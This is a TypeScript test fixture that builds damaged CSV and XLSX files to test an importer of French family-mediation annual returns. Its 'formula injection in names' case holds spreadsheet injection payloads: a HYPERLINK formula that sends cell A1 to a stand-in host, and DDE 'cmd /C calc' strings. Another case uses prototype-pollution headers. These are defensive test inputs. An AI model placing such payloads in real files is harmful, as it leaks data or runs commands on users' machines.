/**
 * The damaged-input corpus (issue 6): ≥ 25 returns as they really go wrong, generated here (seeded,
 * no committed binaries), each with the behaviour it must get. Every case is a mediation return for
 * 2024 built from `validService` rows with the 2024 dictionary's canonical headers, then damaged.
 *
 * Expected behaviours:
 * - `file`: the file cannot be read as a return: no row accepted (any row read is rejected), a
 *   French message naming the file (`problem`: that very message, where the case pins it);
 * - `rows`: rows are read; `accepted`/`rejected` counts, and for rejects the rows (header = row 1),
 *   where there is one the field named in the reject, and where the case pins it the reason given.
 * Every case may also pin the encoding recorded and the one notice about the file (none otherwise).
 */
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { returnMessages } from '../../src/format/messages.ts';
import type { MediationRow } from '../../src/model/rows.ts';
import { createRng } from '../../src/sample/prng.ts';
import { reasons } from '../../src/validate/messages.ts';

/** Messages that depend on the file's path (`returns/2024/mediation/<file>`). */
type Message = (path: string) => string;

export type Expectation = ({ kind: 'file'; problem?: Message } | { kind: 'rows'; accepted: number; rejected: number; rejectedRows?: number[]; field?: string; reason?: Message }) & {
  encoding?: string;
  notice?: Message;
};

export interface DamagedCase {
  name: string;
  /** file name, in `returns/2024/mediation/` */
  file: string;
  what: string;
  bytes: () => Promise<Uint8Array> | Uint8Array;
  expect: Expectation;
  /** accepted rows must carry these values (canonical field → value) */
  acceptedValues?: Partial<Record<keyof MediationRow, string | number>>;
}

export const YEAR = 2024;

/** A consistent mediation return: 40 ended mediations split every way, counts ≥ 0. */
export function validService(n: number, overrides: Partial<MediationRow> = {}): MediationRow {
  return {
    annee: YEAR,
    service_id: `MF-69-${String(n).padStart(3, '0')}`,
    service_nom: `Médiation familiale du Rhône n° ${n}`,
    departement: '69',
    gestionnaire: 'association',
    etp_mediateurs: 2.5,
    mediateurs: 4,
    lieux_accueil: 6,
    reunions_information: 30,
    entretiens_prealables: 180,
    seances: 96,
    terminees_conventionnelles: 28,
    terminees_judiciaires: 12,
    issue_accord_ecrit: 11,
    issue_accord_oral: 14,
    issue_sans_accord: 6,
    issue_interrompue: 9,
    conflit_separation: 31,
    conflit_intergenerationnel: 5,
    conflit_autre: 4,
    duree_moins_3_mois: 24,
    duree_3_6_mois: 11,
    duree_plus_6_mois: 5,
    personnes: 86,
    fin_caf: 118450,
    fin_justice: 9000,
    fin_msa: 0,
    fin_collectivites: 15000,
    fin_familles: 4200,
    fin_autre: 0,
    ...overrides,
  };
}

export const FIELDS = Object.keys(validService(1)) as (keyof MediationRow)[];
/** Canonical headers (`headers[0]` of the 2024 dictionary), set by the test before building files. */
export const headers: { canonical: Record<string, string>; gestionnaire: Record<string, string> } = { canonical: {}, gestionnaire: {} };

type Cell = string | number;
export function cells(row: MediationRow): Cell[] {
  return FIELDS.map((f) => (f === 'gestionnaire' ? (headers.gestionnaire[row[f]] ?? row[f]) : row[f]));
}
const headerLine = () => FIELDS.map((f) => headers.canonical[f] ?? f);

/** French CSV (`;`, decimal comma), as text; `raw` lines are put as they are. */
export function csvText(rows: readonly (MediationRow | Cell[] | { raw: string })[], opts: { sep?: string; decimal?: string; eol?: string; header?: string[] } = {}): string {
  const sep = opts.sep ?? ';';
  const decimal = opts.decimal ?? ',';
  const eol = opts.eol ?? '\r\n';
  const fmt = (c: Cell) => {
    const t = typeof c === 'number' ? String(c).replace('.', decimal) : c;
    return t.includes(sep) || t.includes('"') || /[\r\n]/.test(t) ? `"${t.replace(/"/g, '""')}"` : t;
  };
  const lines = [(opts.header ?? headerLine()).map(fmt).join(sep)];
  for (const r of rows) {
    if ('raw' in r) lines.push(r.raw);
    else lines.push((Array.isArray(r) ? r : cells(r)).map(fmt).join(sep));
  }
  return lines.join(eol) + eol;
}
export const utf8Bom = (text: string) => new Uint8Array(Buffer.from('\ufeff' + text, 'utf8'));
const cp1252 = (text: string) => new Uint8Array(iconv.encode(text, 'win1252'));
const three = () => [validService(1), validService(2), validService(3)];
/** A row's cells with one field replaced by a raw text. */
const withCell = (row: MediationRow, field: keyof MediationRow, value: Cell) => cells(row).map((c, i) => (FIELDS[i] === field ? value : c));

async function workbook(build: (wb: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  wb.created = new Date(Date.UTC(2025, 0, 1));
  wb.modified = wb.created;
  build(wb);
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

export const CORPUS: readonly DamagedCase[] = [
  { name: 'empty file', file: 'vide.csv', what: 'fichier de 0 octet', bytes: () => new Uint8Array(0), expect: { kind: 'file' } },
  { name: 'blank file', file: 'blanc.csv', what: 'seulement des espaces et des sauts de ligne', bytes: () => utf8Bom('  \r\n\r\n \n'), expect: { kind: 'file' } },
  { name: 'header only', file: 'entete-seule.csv', what: 'en-tête sans aucune ligne', bytes: () => utf8Bom(csvText([])), expect: { kind: 'file', problem: (path) => reasons.noDataRows(path, 1) } },
  { name: 'header and blank lines only', file: 'entete-et-blancs.csv', what: 'en-tête suivi de lignes vides et de lignes de séparateurs', bytes: () => cp1252(csvText([{ raw: '' }, { raw: ';;;;' }, { raw: '' }])), expect: { kind: 'file', problem: (path) => reasons.noDataRows(path, 1) } },
  {
    name: 'binary garbage named .csv',
    file: 'binaire.csv',
    what: 'octets aléatoires (avec des NUL)',
    bytes: () => {
      const rng = createRng(6);
      return new Uint8Array(Array.from({ length: 4096 }, () => rng.int(0, 255)));
    },
    expect: { kind: 'file' },
  },
  {
    name: 'file truncated mid-row',
    file: 'tronque.csv',
    what: 'copie interrompue au milieu de la 3e ligne de données',
    bytes: () => {
      const text = csvText(three());
      return cp1252(text.slice(0, text.lastIndexOf('\r\n', text.length - 3) + 2 + 40));
    },
    expect: { kind: 'rows', accepted: 2, rejected: 1, rejectedRows: [4] },
  },
  { name: 'comma instead of semicolon', file: 'virgules.csv', what: 'séparateur « , » et point décimal', bytes: () => utf8Bom(csvText(three(), { sep: ',', decimal: '.', eol: '\n' })), expect: { kind: 'rows', accepted: 3, rejected: 0 }, acceptedValues: { etp_mediateurs: 2.5 } },
  {
    name: 'UTF-16',
    file: 'utf16.csv',
    what: 'UTF-16 LE avec BOM (export « Texte Unicode » d\'Excel)',
    bytes: () => new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(csvText(three()), 'utf16le')])),
    expect: { kind: 'rows', accepted: 3, rejected: 0, encoding: 'utf-16le' },
  },
  { name: 'Windows-1252 without BOM', file: 'windows-1252.csv', what: 'accents en Windows-1252, sans BOM', bytes: () => cp1252(csvText([1, 2, 3].map((n) => validService(n, { service_nom: 'Médiation familiale – Rhône (Lyon, Villeurbanne) « Écoute »' })))), expect: { kind: 'rows', accepted: 3, rejected: 0, encoding: 'windows-1252' }, acceptedValues: { service_nom: 'Médiation familiale – Rhône (Lyon, Villeurbanne) « Écoute »' } },
  {
    name: 'BOM plus Windows-1252 bytes',
    file: 'bom-windows-1252.csv',
    what: 'un BOM UTF-8 devant des octets Windows-1252 (accents, « € », « œ »)',
    bytes: () => new Uint8Array(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(cp1252(csvText([1, 2, 3].map((n) => validService(n, { service_nom: 'Cœur de Saône – médiation « Écoute » 5 €' })))))])),
    // read as Windows-1252 without its BOM, and said so (issue 6: detection order BOM → UTF-8 → Windows-1252)
    expect: { kind: 'rows', accepted: 3, rejected: 0, encoding: 'windows-1252', notice: returnMessages.bomButWindows1252 },
    acceptedValues: { service_nom: 'Cœur de Saône – médiation « Écoute » 5 €' },
  },
  {
    name: 'mixed line endings and blank lines',
    file: 'fins-de-ligne.csv',
    what: 'CRLF et LF mêlés, lignes vides au milieu et à la fin',
    bytes: () => {
      const [h, a, b, c] = csvText(three()).trimEnd().split('\r\n');
      return utf8Bom(`${h}\r\n${a}\n\r\n${b}\r\n\n\n${c}\n\n`);
    },
    expect: { kind: 'rows', accepted: 3, rejected: 0 },
  },
  { name: 'text in a count field', file: 'texte.csv', what: '« beaucoup » dans le nombre de séances', bytes: () => utf8Bom(csvText([validService(1), withCell(validService(2), 'seances', 'beaucoup'), validService(3)])), expect: { kind: 'rows', accepted: 2, rejected: 1, rejectedRows: [3], field: 'seances' } },
  { name: 'NaN in a count field', file: 'nan.csv', what: '« NaN » dans le nombre de séances', bytes: () => utf8Bom(csvText([withCell(validService(1), 'seances', 'NaN'), validService(2)])), expect: { kind: 'rows', accepted: 1, rejected: 1, rejectedRows: [2], field: 'seances' } },
  { name: 'negative count', file: 'negatif.csv', what: 'nombre de réunions d\'information négatif', bytes: () => utf8Bom(csvText([validService(1), validService(2, { reunions_information: -5 })])), expect: { kind: 'rows', accepted: 1, rejected: 1, rejectedRows: [3], field: 'reunions_information' } },
  { name: 'absurdly large number', file: 'enorme.csv', what: '999 999 999 999 séances', bytes: () => utf8Bom(csvText([validService(1, { seances: 999_999_999_999 }), validService(2)])), expect: { kind: 'rows', accepted: 1, rejected: 1, rejectedRows: [2], field: 'seances' } },
  {
    name: 'thousands separators and decimal commas',
    file: 'milliers.csv',
    what: 'montants « 118 450 » et « 118 450 » (espace insécable), ETP « 2,5 »',
    bytes: () => cp1252(csvText([withCell(validService(1), 'fin_caf', '118 450'), withCell(validService(2), 'fin_caf', '118\u00a0450')])),
    expect: { kind: 'rows', accepted: 2, rejected: 0 },
    acceptedValues: { fin_caf: 118450, etp_mediateurs: 2.5 },
  },
  { name: 'duplicated return', file: 'doublon.csv', what: 'le même service deux fois', bytes: () => utf8Bom(csvText([validService(1), validService(2), validService(1)])), expect: { kind: 'rows', accepted: 2, rejected: 1, rejectedRows: [4] } },
  { name: 'return for another year', file: 'autre-annee.csv', what: 'réponses 2019 dans le dossier 2024', bytes: () => utf8Bom(csvText([validService(1, { annee: 2019 }), validService(2, { annee: 2019 })])), expect: { kind: 'rows', accepted: 0, rejected: 2, rejectedRows: [2, 3] } },
  { name: 'unknown department', file: 'departement-inconnu.csv', what: 'département « 99 »', bytes: () => utf8Bom(csvText([validService(1), validService(2, { departement: '99' })])), expect: { kind: 'rows', accepted: 1, rejected: 1, rejectedRows: [3], field: 'departement' } },
  {
    name: 'malformed department codes',
    file: 'departement-malforme.csv',
    what: 'départements « A1 », « 6 9 », « 2C » (rejetés) et « 1 » (zéro perdu par Excel : lu « 01 »)',
    bytes: () => utf8Bom(csvText([validService(1, { departement: 'A1' }), validService(2, { departement: '6 9' }), validService(3, { departement: '2C' }), validService(4, { departement: '1' })])),
    expect: { kind: 'rows', accepted: 1, rejected: 3, rejectedRows: [2, 3, 4], field: 'departement' },
    acceptedValues: { departement: '01' },
  },
  // a row longer than the header: values under no header are data that would be lost silently
  {
    name: 'row with too many fields',
    file: 'trop-de-champs.csv',
    what: 'une ligne avec deux champs de trop',
    bytes: () => utf8Bom(csvText([validService(1), [...cells(validService(2)), 'x', 'y'], validService(3)])),
    expect: { kind: 'rows', accepted: 2, rejected: 1, rejectedRows: [3], reason: () => reasons.tooManyFields(FIELDS.length + 2, FIELDS.length) },
  },
  // Excel writes a separator after the last column on every line: empty cells, not extra values
  {
    name: 'trailing separators',
    file: 'separateurs-en-fin.csv',
    what: '« ;; » au bout de chaque ligne, en-tête compris',
    bytes: () => cp1252(csvText(three()).replace(/\r\n/g, ';;\r\n')),
    expect: { kind: 'rows', accepted: 3, rejected: 0 },
  },
  {
    name: 'row shifted by a stray delimiter',
    file: 'decale.csv',
    what: 'un « ; » dans un nom non protégé décale toute la ligne d\'une colonne',
    bytes: () => utf8Bom(csvText([validService(1), { raw: csvText([validService(2)]).split('\r\n')[1].replace('Médiation familiale du Rhône n° 2', 'Médiation; Rhône') }, validService(3)])),
    expect: { kind: 'rows', accepted: 2, rejected: 1, rejectedRows: [3] },
  },
  { name: 'row with too few fields', file: 'pas-assez-de-champs.csv', what: 'une ligne à laquelle manquent les cinq dernières colonnes', bytes: () => utf8Bom(csvText([validService(1), cells(validService(2)).slice(0, -5), validService(3)])), expect: { kind: 'rows', accepted: 2, rejected: 1, rejectedRows: [3], field: 'fin_autre', reason: () => reasons.missingInShortRow(FIELDS.length - 5, FIELDS.length) } },
  { name: '200 000-character field', file: 'champ-geant.csv', what: 'un nom de service de 200 000 caractères', bytes: () => utf8Bom(csvText([validService(1, { service_nom: 'A'.repeat(200_000) }), validService(2)])), expect: { kind: 'rows', accepted: 1, rejected: 1, rejectedRows: [2], field: 'service_nom' } },
  {
    name: '__proto__ and constructor as headers',
    file: 'proto.csv',
    what: 'colonnes supplémentaires « __proto__ », « constructor » et « prototype »',
    bytes: () => utf8Bom(csvText([[...cells(validService(1)), '{"pollue":1}', 'x', 'y']], { header: [...headerLine(), '__proto__', 'constructor', 'prototype'] })),
    expect: { kind: 'rows', accepted: 1, rejected: 0 },
  },
  {
    name: 'formula injection in names',
    file: 'injection.csv',
    what: 'noms commençant par « = », « + », « - », « @ »',
    bytes: () =>
      utf8Bom(
        csvText([
          validService(1, { service_nom: '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez ici")' }),
          validService(2, { service_nom: '+33 1 23 45 67 89' }),
          validService(3, { service_nom: '-2+3+cmd|\' /C calc\'!A0' }),
          validService(4, { service_nom: '@SUM(1+1)*cmd|\' /C calc\'!A0' }),
        ]),
      ),
    expect: { kind: 'rows', accepted: 4, rejected: 0 },
  },
  { name: 'XLSX that is not a zip', file: 'pas-un-zip.xlsx', what: 'un fichier texte renommé en .xlsx', bytes: () => utf8Bom(csvText(three())), expect: { kind: 'file' } },
  {
    name: 'XLSX with several sheets, merged cells and formulas',
    file: 'classeur-complexe.xlsx',
    what: 'une feuille « Notice », puis les données sous un titre fusionné, avec des formules',
    bytes: () =>
      workbook((wb) => {
        const notice = wb.addWorksheet('Notice');
        notice.addRow(['Questionnaire annuel d\'activité — notice']);
        notice.mergeCells('A1:F1');
        const data = wb.addWorksheet('Réponses');
        data.addRow(headerLine());
        three().forEach((r, i) => {
          const row = data.addRow(cells(r));
          // ended judicial mediations as a formula with its cached result
          const col = FIELDS.indexOf('terminees_judiciaires') + 1;
          row.getCell(col).value = { formula: `${String.fromCharCode(64 + FIELDS.indexOf('issue_accord_ecrit') + 1)}${i + 2}+1`, result: r.terminees_judiciaires };
        });
      }),
    expect: { kind: 'rows', accepted: 3, rejected: 0 },
  },
  { name: 'empty XLSX', file: 'classeur-vide.xlsx', what: 'un classeur dont la feuille est vide', bytes: () => workbook((wb) => void wb.addWorksheet('Feuil1')), expect: { kind: 'file' } },
  {
    name: 'unrecognised headers',
    file: 'entete-inconnu.csv',
    what: 'un tableau qui n\'est pas une réponse (colonnes inconnues)',
    bytes: () => utf8Bom('Nom;Prénom;Téléphone\r\nDupont;Jean;0102030405\r\n'),
    expect: { kind: 'file' },
  },
  {
    name: 'a return ten times the national size',
    file: 'dix-fois.csv',
    what: '2 720 services dans un seul fichier',
    bytes: () => cp1252(csvText(Array.from({ length: 2720 }, (_, i) => validService(i + 1, { service_id: `MF-69-${String(i + 1).padStart(5, '0')}` })))),
    expect: { kind: 'rows', accepted: 2720, rejected: 0 },
  },
];
